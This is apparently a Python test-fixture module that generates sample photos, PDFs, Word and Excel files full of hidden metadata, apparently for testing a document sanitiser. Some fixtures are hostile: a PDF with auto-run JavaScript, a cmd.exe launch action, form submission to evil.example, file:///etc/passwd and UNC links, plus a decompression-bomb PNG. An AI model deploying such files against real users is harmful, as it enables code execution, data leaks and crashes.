"""Files that somebody could send, good and bad, built by code: none of them lies anywhere as a file."""

import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO

import pikepdf
import typst
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

OFFICE = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HELD = "http://schemas.openxmlformats.org/package/2006"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SECRET = "GPSCANARY"


def picture(
    kind: str = "JPEG", *, size: tuple[int, int] = (120, 80), mode: str = "RGB", **more: object
) -> bytes:
    image = Image.new(mode, size, None)
    if mode == "RGB":
        ImageDraw.Draw(image).rectangle((10, 10, size[0] // 2, size[1] // 2), fill="red")
    out = BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def with_place() -> bytes:
    """A photograph that says where it was taken, by whom, and which side is up."""
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x0112] = SECRET, SECRET, 6
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif, comment=SECRET.encode(), icc_profile=SECRET.encode() * 20)


def archive(parts: dict[str, bytes | str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in parts.items():
            zipped.writestr(name, body)
    return out.getvalue()


def huge_picture() -> bytes:
    """A PNG of 900 million pixels in less than a megabyte, put together from a hundred rows that were packed once."""
    rows = zlib.compressobj(9, wbits=-15)
    hundred = rows.compress(bytes(30_001) * 100) + rows.flush(zlib.Z_FULL_FLUSH)
    checked = struct.pack(">HH", 30_001 * 30_000 % 65_521, 1)  # Adler-32 of nothing but zeros
    packed = b"\x78\xda" + hundred * 300 + b"\x03\x00" + checked
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@cache
def pdf(text: str = "Hello", *, pages: int = 1) -> bytes:
    source = "#pagebreak()\n".join(
        f'= {text} {n}\n#link("https://example.org")[link]\n' for n in range(1, pages + 1)
    )
    return typst.compile(source.encode(), format="pdf")


def active_pdf() -> bytes:
    """Every way known to us in which a PDF acts, hides or leads outside."""
    with pikepdf.open(BytesIO(pdf("Plain words"))) as document:
        root, page = document.Root, document.pages[0].obj
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        root.OpenAction = script
        root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F=String("cmd.exe")))
        root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
        root.URI = Dictionary(Base=String("http://evil.example/"))
        page.AA = Dictionary(O=script)
        document.attachments["note.txt"] = b"EMBEDDED"
        document.docinfo["/Author"] = SECRET
        with document.open_metadata() as metadata:
            metadata["dc:creator"] = [SECRET]
        page.Annots = Array([*page.get("/Annots", []), *map(document.make_indirect, _annotations(script))])
        field = page.Annots[-1]
        root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/Helv 12 Tf 0 g"), XFA=String("<xdp/>"))
        out = BytesIO()
        document.save(out)
        return out.getvalue()


def _annotations(script: Dictionary) -> list[Dictionary]:
    acts = [
        Dictionary(S=Name.SubmitForm, F=String("http://evil.example/submit")),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share"), D=String("x")),
        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script),
        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Title=String("x"), Next=Dictionary(S=Name.Rendition)),
        Dictionary(S=Name.ImportData, F=String("x.fdf")),
    ]
    box = [0, 0, 100, 100]
    links = [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(box), A=act) for act in acts]
    kinds = [Name.FileAttachment, Name.RichMedia, Name.Screen, Name.Movie, Name.Sound]
    others = [Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array(box), T=String(SECRET)) for kind in kinds]
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), V=String("x"), Rect=Array(box)
    )
    return [*links, *others, field]


SHOWN = (
    *(
        "plain",
        "packed twice",
        "packed thrice",
        "short names",
        "several scans",
        "a second picture behind",
        "noise before",
    ),
    *("JPEG 2000", "bare JPEG 2000", "in the text", "in the text, packed", "in the text of two streams"),
    *("in a form", "in the text of a form", "in a pattern", "on a note"),
)
PHOTOGRAPHS = (
    *SHOWN,
    "as a mask",
    "as a thumbnail",
    "as another choice",
    "of a programme",
    "as metadata",
    "embedded",
)


def with_photograph(place: str) -> bytes:
    """A PDF with a photograph that says where it was taken, put there in one of the ways there are."""
    with pikepdf.open(BytesIO(pdf())) as document:
        page = document.pages[0]
        _put_photograph(document, page, place)
        out = BytesIO()
        document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return out.getvalue()


def _put_photograph(document: pikepdf.Pdf, page: pikepdf.Page, place: str) -> None:
    photo = with_place()
    dct, flate, hexa = Name.DCTDecode, Name.FlateDecode, Name.ASCIIHexDecode
    as_hex = photo.hex().encode() + b">"
    ways: dict[str, tuple[bytes, object]] = {
        "packed twice": (zlib.compress(photo), Array([flate, dct])),
        "packed thrice": (zlib.compress(as_hex), Array([flate, hexa, dct])),
        "short names": (zlib.compress(photo), Array([Name.Fl, Name.DCT])),
        "several scans": (_with_words_between_scans(), dct),
        "a second picture behind": (picture() + photo, dct),
        "noise before": (b"\n" + photo, dct),
        "damaged": (b"\xff\xd8\xff\xe1\x00\x01" + photo[20:], dct),
        "JPEG 2000": (_jpeg_2000(), Name.JPXDecode),
        "bare JPEG 2000": (_jpeg_2000(boxed=False), Name.JPXDecode),
    }
    content, packing = ways.get(place, (photo, dct))
    image = _image(document, content, packing)
    inline = b"/W 120 /H 80 /CS /RGB /BPC 8 /F %s ID %s\nEI"
    draw, over = b"q 150 0 0 150 20 20 cm %s Q", Name.Over
    if place in ("plain", *ways):
        page.add_resource(image, Name.XObject, over)
        page.contents_add(draw % b"/Over Do")
    elif place == "in the text":
        page.contents_add(draw % (b"BI " + inline % (b"/DCT", photo)))
    elif place == "in the text, packed":
        page.contents_add(draw % (b"BI " + inline % (b"[/AHx /DCT]", as_hex)))
    elif place == "in the text of two streams":
        whole = draw % (b"BI " + inline % (b"/DCT", photo))
        page.contents_add(whole[:39])
        page.contents_add(whole[39:])
    elif place in ("in a form", "in the text of a form", "on a note"):
        inside = b"/Over Do" if place != "in the text of a form" else b"BI " + inline % (b"/DCT", photo)
        resources = Dictionary(XObject=Dictionary(Over=image))
        form = document.make_stream(inside, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), Resources=resources)
        if place == "on a note":
            box = Array([20, 20, 170, 170])
            stamp = Dictionary(Type=Name.Annot, Subtype=Name.Stamp, Rect=box, F=4, AP=Dictionary(N=form))
            page.obj.Annots = Array([document.make_indirect(stamp)])
        else:
            page.add_resource(form, Name.XObject, Name.Form)
            page.contents_add(draw % b"/Form Do")
    elif place == "in a pattern":
        resources = Dictionary(XObject=Dictionary(Over=image))
        tile = document.make_stream(
            b"100 0 0 100 0 0 cm BI " + inline % (b"/DCT", photo),
            PatternType=1, PaintType=1, TilingType=1, BBox=Array([0, 0, 100, 100]), XStep=100, YStep=100,
            Resources=resources,
        )  # fmt: skip
        page.add_resource(tile, Name.Pattern, Name.Tile)
        page.contents_add(b"q /Pattern cs /Tile scn 20 20 150 150 re f Q")
    else:
        _hide(document, page, place, image)


def _hide(document: pikepdf.Pdf, page: pikepdf.Page, place: str, image: pikepdf.Stream) -> None:
    """A photograph that no page shows."""
    shown = _image(document, picture(), Name.DCTDecode)
    page.add_resource(shown, Name.XObject, Name.Over)
    if place == "as a mask":
        image.ColorSpace = Name.DeviceGray
        shown.SMask = image
    elif place == "as another choice":
        shown.Alternates = Array([Dictionary(Image=image, DefaultForPrinting=True)])
    elif place == "as a thumbnail":
        page.obj.Thumb = _image(document, zlib.compress(SECRET.encode() * 9), Name.FlateDecode)
    elif place == "of a programme":
        page.obj.ProgrammesOwn = _image(document, zlib.compress(SECRET.encode() * 9), Name.FlateDecode)
    elif place == "as metadata":
        shown.Own = document.make_stream(SECRET.encode(), Type=Name.Metadata, Subtype=Name.XML)
    else:
        shown.Own = document.make_stream(SECRET.encode(), Type=Name.EmbeddedFile)


def _image(document: pikepdf.Pdf, content: bytes, packing: object) -> pikepdf.Stream:
    about = {"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceRGB}
    return document.make_stream(content, **about, Width=120, Height=80, BitsPerComponent=8, Filter=packing)


def _with_words_between_scans() -> bytes:
    """A JPEG of several scans with a comment before the second one."""
    photo = picture(progressive=True)
    second = photo.index(b"\xff\xda", photo.index(b"\xff\xda") + 2)
    at = photo.rindex(b"\xff\xc4", 0, second)
    return photo[:at] + b"\xff\xfe" + struct.pack(">H", 2 + len(SECRET)) + SECRET.encode() + photo[at:]


def _jpeg_2000(*, boxed: bool = True) -> bytes:
    """With words in a box before and one behind the picture, and in a comment inside it."""
    whole = picture("JPEG2000", comment=SECRET)
    if not boxed:
        return whole[whole.index(b"\xff\x4f\xff\x51") :]
    at = whole.index(b"jp2c") - 4
    box = struct.pack(">I", 8 + len(SECRET)) + b"xml " + SECRET.encode()
    sized = struct.pack(">I", len(whole) - at) + whole[at + 4 :]
    return whole[:at] + box + sized + box.replace(b"xml ", b"uuid")


def annotated_pdf() -> bytes:
    """Notes with names and words, beside marks that a reader is meant to see."""
    with pikepdf.open(BytesIO(pdf())) as document:
        words, box = String(SECRET), Array([0, 0, 100, 100])
        about = {"Type": Name.Annot, "Rect": box, "T": words, "M": String("D:20200801"), "RC": words}
        note = document.make_indirect(Dictionary(Subtype=Name.Text, Contents=words, **about))
        notes = [
            note,
            Dictionary(Subtype=Name.Popup, Parent=note, **about),
            Dictionary(Subtype=Name.Text, Contents=words, IRT=note, **about),
            Dictionary(
                Subtype=Name.Highlight, Contents=words, QuadPoints=Array([0, 9, 9, 9, 0, 0, 9, 0]), **about
            ),
            Dictionary(
                Subtype=Name.FreeText, Contents=String("To be read"), DA=String("/Helv 9 Tf"), **about
            ),
        ]
        page = document.pages[0].obj
        page.Annots = Array([*page.get("/Annots", []), *map(document.make_indirect, notes)])
        out = BytesIO()
        document.save(out)
        return out.getvalue()


def locked_pdf() -> bytes:
    with pikepdf.open(BytesIO(pdf())) as document:
        out = BytesIO()
        document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
        return out.getvalue()


def half_locked_pdf() -> bytes:
    """Opens without a password, and forbids to copy."""
    with pikepdf.open(BytesIO(pdf())) as document:
        out = BytesIO()
        document.save(out, encryption=pikepdf.Encryption(user="", owner="secret"))
        return out.getvalue()


def docx(
    body: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>",
    *,
    main: str = "document.main+xml",
    **more: bytes | str,
) -> bytes:
    """A Word file; ``more`` are parts by their path, ``rels`` further relationships of the document."""
    kind = f"{OFFICE}.wordprocessingml.{main}" if "." in main and "macro" not in main.lower() else main
    relations = more.pop("rels", "")
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{HELD}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/>'
        '<Override PartName="/docProps/core.xml" '
        'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        "</Types>",
        "_rels/.rels": f'<Relationships xmlns="{HELD}/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>'
        f'<Relationship Id="rId2" Type="{HELD}/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>",
        "docProps/core.xml": f"<core>{SECRET}</core>",
        "word/document.xml": f'<w:document xmlns:w="{WORDS}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{HELD}/relationships">{relations}</Relationships>',
    }
    return archive({**parts, **more})


def relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rId9" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'


def xlsx(*, formula: str = "", name: str = "", sheets: int = 1) -> bytes:
    book = Workbook()
    book.properties.creator = SECRET
    book.active["A1"], book.active["B1"] = "place", formula or 7
    if name:
        book.defined_names["asked"] = DefinedName("asked", attr_text=name)
    for n in range(1, sheets):
        book.create_sheet(f"Sheet {n}")["A1"] = f"words {n}"
    out = BytesIO()
    book.save(out)
    return out.getvalue()


# What an office leaves in its documents: names, dates, editing sessions, words among colleagues.

_THREADED = "http://schemas.microsoft.com/office/2017/10/relationships"
_R = f'xmlns:r="{RELATIONS}"'
_AMONG_US = f'<w:comment w:id="1" w:author="{SECRET}" w:initials="{SECRET}"><w:p/></w:comment>'


def _xml(tag: str, inside: str = "", about: str = "") -> str:
    return f'<w:{tag} xmlns:w="{WORDS}" {about}>{inside}</w:{tag}>'


def commented_docx() -> bytes:
    """A letter that was discussed and formatted by several people; its words are "Hello", "there" and "all"."""
    change = f'w:id="4" w:author="{SECRET}" w:date="2020-08-01T00:00:00Z"'
    body = (
        f'<w:p w:rsidR="{SECRET}"><w:pPr><w:pPrChange {change}><w:pPr/></w:pPrChange></w:pPr>'
        '<w:commentRangeStart w:id="1"/><w:permStart w:id="7" w:ed="GPSCANARY@example.org"/>'
        f"<w:r><w:rPr><w:b/><w:rPrChange {change}><w:rPr/></w:rPrChange></w:rPr>"
        '<w:t xml:space="preserve">Hello </w:t></w:r>'
        '<w:commentRangeEnd w:id="1"/><w:r><w:rPr><w:rStyle w:val="x"/></w:rPr><w:commentReference w:id="1"/></w:r>'
        f'<w:permEnd w:id="7"/><w:hyperlink {_R} r:id="rId9"><w:r>'
        "<w:t>there</w:t></w:r></w:hyperlink></w:p>"
        '<w:p xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w14" '
        'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" w14:paraId="00000001">'
        "<w:r><w:t>all</w:t></w:r></w:p>"
        f"<w:sectPr><w:sectPrChange {change}><w:sectPr/></w:sectPrChange></w:sectPr>"
    )
    settings = _xml(
        "settings",
        f'<w:rsids><w:rsidRoot w:val="{SECRET}"/><w:rsid w:val="{SECRET}"/></w:rsids><w:zoom w:percent="100"/>',
    )
    kinds = {
        "comments": _xml("comments", _AMONG_US), "settings": settings,
        **{kind: _xml("x", SECRET) for kind in ("people", "commentsExtended", "commentsIds", "commentsExtensible")},
    }  # fmt: skip
    rels = "".join(
        f'<Relationship Id="rK{n}" Type="{RELATIONS}/{kind}" Target="{kind}.xml"/>'
        for n, kind in enumerate(kinds)
    )
    rels += f'<Relationship Id="rOwn" Type="{RELATIONS}/customXml" Target="../customXml/item1.xml"/>'
    rels += relation("hyperlink", "https://example.org", outside=True)
    parts: dict[str, bytes | str] = {f"word/{kind}.xml": xml for kind, xml in kinds.items()}
    parts["customXml/item1.xml"] = f"<properties><Editor>{SECRET}</Editor></properties>"
    parts["customXml/_rels/item1.xml.rels"] = (
        f'<Relationships xmlns="{HELD}/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/customXmlProps" Target="itemProps1.xml"/></Relationships>'
    )
    parts["customXml/itemProps1.xml"] = f"<x>{SECRET}</x>"
    parts["word/unknown.xml"] = f"<x>{SECRET}</x>"  # nothing leads there
    return docx(body, rels=rels, **parts)


def changed_docx(change: str) -> bytes:
    """A letter with one tracked change that nobody decided on."""
    about = f'w:id="1" w:author="{SECRET}" w:date="2020-08-01T00:00:00Z"'
    bodies = {
        "inserted": f"<w:p><w:ins {about}><w:r><w:t>new</w:t></w:r></w:ins></w:p>",
        "deleted": f"<w:p><w:del {about}><w:r><w:delText>old</w:delText></w:r></w:del></w:p>",
        "moved": f"<w:p><w:moveFrom {about}><w:r><w:t>x</w:t></w:r></w:moveFrom></w:p>",
        "a paragraph": f"<w:p><w:pPr><w:rPr><w:ins {about}/></w:rPr></w:pPr></w:p>",
        "a row": f"<w:tbl><w:tr><w:trPr><w:del {about}/></w:trPr></w:tr></w:tbl>",
        "a cell": f"<w:tbl><w:tr><w:tc><w:tcPr><w:cellIns {about}/></w:tcPr></w:tc></w:tr></w:tbl>",
        "a formula": f'<m:oMath xmlns:m="urn:m"><m:r><w:rPr><w:ins {about}/></w:rPr></m:r></m:oMath>',
    }
    return docx(bodies[change])


def commented_xlsx() -> bytes:
    """A table with notes, a conversation about a cell, a log of changes, a path, a printer, and who refreshed it."""
    book = Workbook()
    book.active["A1"], book.active["B1"] = "place", 7
    book.active["A1"].comment = Comment(SECRET, SECRET)
    book.active.sheet_properties.tabColor = "FF0000"
    out = BytesIO()
    book.save(out)
    with zipfile.ZipFile(BytesIO(out.getvalue())) as archived:
        parts = {name: archived.read(name) for name in archived.namelist()}
    _add(parts, "xl/_rels/workbook.xml.rels", _relation("revisionHeaders", "revisions/headers.xml"))
    _add(parts, "xl/_rels/workbook.xml.rels", _relation("person", "persons/person.xml", base=_THREADED))
    _add(
        parts,
        "xl/worksheets/_rels/sheet1.xml.rels",
        _relation("threadedComment", "../threadedComments/t1.xml", base=_THREADED),
    )
    _add(
        parts,
        "xl/worksheets/_rels/sheet1.xml.rels",
        _relation("printerSettings", "../printerSettings/p1.bin", ident="rPrint"),
    )
    parts["xl/revisions/headers.xml"] = parts["xl/persons/person.xml"] = f"<x userName='{SECRET}'/>".encode()
    parts["xl/threadedComments/t1.xml"] = f"<x>{SECRET}</x>".encode()
    parts["xl/printerSettings/p1.bin"] = SECRET.encode()
    shown = parts["xl/worksheets/sheet1.xml"]
    page = f'<pageSetup {_R} paperSize="9" r:id="rPrint"/>'.encode()
    scenario = f'<scenarios><scenario name="x" user="{SECRET}" comment="{SECRET}"/></scenarios>'.encode()
    assert b"<legacyDrawing" in shown
    parts["xl/worksheets/sheet1.xml"] = shown.replace(b"<legacyDrawing", scenario + page + b"<legacyDrawing")
    workbook = parts["xl/workbook.xml"]
    sharing = f'<fileSharing userName="{SECRET}"/><absPath url="C:\\Users\\{SECRET}\\"/>'.encode()
    views = f'<customWorkbookViews><customWorkbookView name="{SECRET}"/></customWorkbookViews>'.encode()
    parts["xl/workbook.xml"] = workbook.replace(b"<sheets>", sharing + b"<sheets>").replace(
        b"</workbook>", views + b"</workbook>"
    )
    return archive({name: bytes(body) for name, body in parts.items()})


def _add(parts: dict[str, bytes], name: str, relationship: str) -> None:
    parts[name] = parts[name].replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


def _relation(kind: str, target: str, *, base: str = RELATIONS, ident: str = "") -> str:
    return f'<Relationship Id="{ident or "r" + kind}" Type="{base}/{kind}" Target="{target}"/>'
